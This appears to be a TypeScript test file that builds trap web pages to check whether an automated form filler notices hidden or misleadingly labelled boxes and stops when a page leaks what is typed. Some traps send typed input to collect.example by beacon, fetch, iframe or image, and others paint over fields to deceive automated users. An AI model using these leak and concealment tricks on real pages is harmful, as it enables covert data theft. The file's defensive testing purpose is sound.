import { fields, honest, type Seen, type Trap } from './trap';

const { name, mail, link } = fields;
const box = '<input id="a" data-trap>';
const row = `<div id="w"><label for="a">氏名</label><br>${box}</div>`;
const style = (rules: string) => `<style>${rules}</style>`;
const script = (what: string) => `<script>${what}</script>`;
const seen = '<p><label>メールアドレス <input id="honest"></label></p>';

function empty({ trapped, values }: Seen): string | undefined {
  const got = [...trapped, values['o'] ?? ''].filter(Boolean);
  return got.length > 0 ? `got ${got.join(' ')}` : undefined;
}
const besideHonest = (found: Seen) =>
  empty(found) ?? (values(found) === honest.email ? undefined : 'the honest field was not filled');
const values = (found: Seen) => found.values['honest'];

/** The honest field stands far enough above for the paint not to reach it. */
const far = '<div style="height:330px"></div>';
const painted = (how: string, html: string, reachesAll = false): Trap => ({
  name: `a box painted over by ${how}`,
  html: seen + far + html,
  told: 'left empty and told',
  fault: reachesAll ? empty : besideHonest,
});
const blocks = '█'.repeat(40);
const upward = [10, 20, 30, 40, 50, 60, 70].map((top) => `0 -${top}px #fff`).join(',');

const ink: readonly Trap[] = [
  painted(
    'the backdrop of a popover',
    `${row}<div popover="manual" id="v"></div>${style('#v{border:0;width:1px;height:1px}#v::backdrop{background:#fff}')}${script('v.showPopover()')}`,
    true,
  ),
  painted(
    'a stripe of the backdrop of a popover',
    `${row}<div popover="manual" id="v"></div>${style('#v::backdrop{inset:auto 0 auto 0;top:var(--y);height:70px;background:linear-gradient(#fff,#fff)}')}${script("v.style.setProperty('--y',w.getBoundingClientRect().top-6+'px');v.showPopover()")}`,
    true,
  ),
  painted(
    'the shadow of a small backdrop',
    `${row}<div popover="manual" id="v"></div>${style('#v::backdrop{inset:0 auto auto 0;width:1px;height:1px;box-shadow:0 0 0 2000px #fff}')}${script('v.showPopover()')}`,
    true,
  ),
  painted(
    'shadows of words',
    `${row}<div style="position:relative;z-index:2;white-space:nowrap;color:#fff;text-shadow:${upward}">${blocks}</div>`,
  ),
  painted(
    'the shadow of what stands before the next row',
    `${row}<div id="n" style="position:relative"></div>${style('#n::before{content:"";position:absolute;left:0;top:-40px;width:0;height:0;box-shadow:0 0 0 45px #fff,100px 0 0 45px #fff,200px 0 0 45px #fff;pointer-events:none}')}`,
  ),
  painted(
    'shadows of a first letter',
    `${row}<div id="n" style="position:relative;z-index:2;color:#fff">█</div>${style(`#n::first-letter{text-shadow:${Array.from({ length: 20 }, (_, at) => `${at * 14}px -30px #fff,${at * 14}px -45px #fff`).join(',')}}`)}`,
  ),
  painted(
    'the stroke of words',
    `${row}<div style="position:relative;z-index:2;height:0;line-height:0;color:#fff;-webkit-text-stroke:160px #fff;white-space:nowrap;font-size:40px">${'.'.repeat(20)}</div>`,
  ),
];

const placed = (how: string, html: string): Trap => ({
  name: `a box ${how}`,
  html: seen + html,
  told: 'left empty and told, and the honest field beside it filled',
  fault: besideHonest,
});
const other = '<label for="o" STYLE>公開されるひとこと</label><input id="o" INPUT>';
const ordered = (own: number, own2: number, label: number, input: number) =>
  `<div style="display:flex;flex-direction:column"><label for="a" style="order:${own}">氏名</label><input id="a" data-trap style="order:${own2}">${other.replace('STYLE', `style="order:${label}"`).replace('INPUT', `style="order:${input}"`)}</div>`;

const places: readonly Trap[] = [
  placed('drawn over its label and under that of another', ordered(3, 2, 1, 4)),
  placed(
    'that a grid sets beside the label of another',
    `<div style="display:grid;grid-template-columns:200px 1fr;gap:8px"><label for="a" style="grid-area:1/1">氏名</label><input id="a" data-trap style="grid-area:2/2">${other.replace('STYLE', 'style="grid-area:2/1"').replace('INPUT', 'style="grid-area:1/2"')}</div>`,
  ),
];

const notes: readonly Trap[] = Object.entries({
  'behind its label by a style sheet': `${row}${style('#w label::after{content:"（人は記入しないでください）"}')}`,
  'in its legend': `<fieldset><legend>ロボットよけ（人間は書かないこと）</legend>${row}</fieldset>`,
  'in a legend further out': `<fieldset><legend>記入しないでください</legend><div><div>${row}</div></div></fieldset>`,
  'in English behind it': `<p><label>氏名 ${box}</label><small>Please leave this field blank.</small></p>`,
  'in Japanese behind it': `<p><label>氏名 ${box}</label><small>ここは空けておいてください。書かれた場合は自動送信とみなします。</small></p>`,
  'in Chinese': `<p><label>氏名 ${box}</label><small>请勿填写此栏</small></p>`,
  'in German in its label': `<p><label>氏名（bitte nicht ausfüllen） ${box}</label></p>`,
}).map(([where, html]) => placed(`with a note to leave it empty ${where}`, html));

const ends = (what: string, act: string, why: string, html = name): Trap => ({
  name: what,
  html: `${html}${mail}${link}${script(act)}`,
  told: 'ends the filling, and names what was written',
  fault({ stopped, values: all }) {
    if (stopped?.why !== why || stopped.given.length === 0) return `stopped: ${stopped?.why ?? 'no'}`;
    // A request is heard of once it is answered
    return all['c'] === '' || why === 'called' ? undefined : 'wrote on';
  },
});
const onInput = (act: string) => `a.addEventListener('input',()=>{${act}})`;
const atEach = (act: string) => `addEventListener('input',({target})=>{${act}},true)`;

const acts: readonly Trap[] = [
  ends(
    'a page that copies what is written into another box',
    onInput('o.value=a.value'),
    'changed',
    `${name}<p><label>公開されるひとこと <input id="o"></label></p>`,
  ),
  ...Object.entries({
    'a beacon': "navigator.sendBeacon('https://collect.example/b',target.value)",
    'a request': "fetch('https://collect.example/c',{method:'POST',mode:'no-cors',body:target.value})",
    'a frame': "const f=document.createElement('iframe');f.src='https://collect.example/f';document.body.append(f)",
    'a picture that says nothing': "new Image().src='https://collect.example/bit1'",
  }).map(([how, act]) => ends(`a page that asks another site by ${how}`, atEach(act), 'called')),
];

/** Paint that no hit test finds, labels and notes by their place, and what follows a write. */
export const paintedTraps: readonly Trap[] = [
  ...ink,
  ...places,
  ...notes,
  ...acts,
  {
    name: 'a box that is seen only while the page is scrolled',
    html: `${seen}<div style="height:1500px"></div><div id="w" style="opacity:0"><label>氏名 ${box}</label></div><div style="height:900px"></div>${script("let k;addEventListener('scroll',()=>{w.style.opacity=1;clearTimeout(k);k=setTimeout(()=>w.style.opacity=0,400)},true)")}`,
    told: 'left empty, and the honest field filled',
    fault: besideHonest,
  },
  {
    name: 'a box that is hidden once the last word stands in it',
    html: `${mail}${name}${script("a.addEventListener('input',()=>setTimeout(()=>{a.style.opacity=0},250))")}`,
    told: 'that the page has changed it',
    fault: ({ stopped }) => (stopped?.why === 'changed' ? undefined : `stopped: ${stopped?.why ?? 'no'}`),
  },
];
